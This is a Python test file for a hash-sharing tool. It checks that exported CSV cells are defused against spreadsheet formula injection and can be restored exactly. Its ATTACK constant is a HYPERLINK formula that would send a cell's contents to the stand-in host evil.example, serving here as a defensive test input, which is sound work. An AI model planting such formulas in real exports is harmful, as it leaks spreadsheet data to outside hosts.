import csv
import io
import json

from hypothesis import given
from hypothesis import strategies as st

from alliance.cli.output import OutputFormat, print_rows
from alliance.core.signals import Signal
from alliance.formats import te_csv
from alliance.formats.records import MediaRecord
from alliance.formats.spreadsheet import FORMULA_STARTS, defuse, restore
from alliance.report import write_open_data

MD5 = "0cc175b9c0f1b6a831c399e269772661"
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
formula_like = st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " ", ";"]), max_size=12)


@given(formula_like | st.text(max_size=20))
def test_defused_text_never_starts_a_formula_and_restores_exactly(text: str) -> None:
    defused = defuse(text)
    assert restore(defused) == text
    for part in defused.split(";"):  # a German or French spreadsheet splits cells on ";" too
        assert not part.lstrip("'") or part[0] not in FORMULA_STARTS


def test_a_formula_after_a_semicolon_is_defused() -> None:
    assert defuse("x;=1+1") == "x;'=1+1" and restore("x;'=1+1") == "x;=1+1"
    assert defuse("a;b;@SUM(1)") == "a;b;'@SUM(1)"
    assert defuse("tags: a; b") == "tags: a; b"  # a space first: text in every spreadsheet


def test_ordinary_text_is_left_alone() -> None:
    assert defuse("seen 2024-05, Hotline X") == "seen 2024-05, Hotline X"
    assert defuse("") == "" and defuse("'quoted'") == "'quoted'"


def test_hash_list_csv_defuses_notes_tags_and_metadata_and_reads_them_back() -> None:
    metadata = {"tags": ["-x", "ok"], "case": "@SUM(1)", "where": "x;=1+1"}
    record = MediaRecord((Signal("md5", MD5),), metadata, note=ATTACK)
    text = te_csv.write([record])
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["note"] == "'" + ATTACK and row["tags"] == "'-x ok"
    assert row["metadata"] == '{"case":"@SUM(1)","where":"x;\'=1+1"}'  # each ;-part starts as text
    assert row["signal_str"] == MD5
    (back,) = te_csv.read(text)
    assert (back.note, back.metadata) == (ATTACK, metadata)


def test_csv_for_people_defuses_text_cells(capsys, tmp_path) -> None:
    print_rows([{"name": ATTACK, "count": -3}], ["name", "count"], OutputFormat.CSV)
    row = next(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row == {"name": "'" + ATTACK, "count": "-3"}  # numbers are not text: left as they are

    write_open_data({"members": [{"name": "+1 evil", "targets": ["=1", "2"]}]}, tmp_path)
    row = next(csv.DictReader((tmp_path / "members.csv").open(encoding="utf-8")))
    assert row == {"name": "'+1 evil", "targets": "'=1;2"}
    assert json.loads((tmp_path / "alliance.json").read_text())["members"][0]["name"] == "+1 evil"


def test_metadata_keys_are_kept_in_the_json_cell_and_read_back() -> None:
    record = MediaRecord((Signal("md5", MD5),), {ATTACK: "x"})
    text = te_csv.write([record])
    header = next(csv.reader(io.StringIO(text)))
    assert ATTACK not in header and header[-1] == "metadata"
    assert te_csv.read(text)[0].metadata == {ATTACK: "x"}
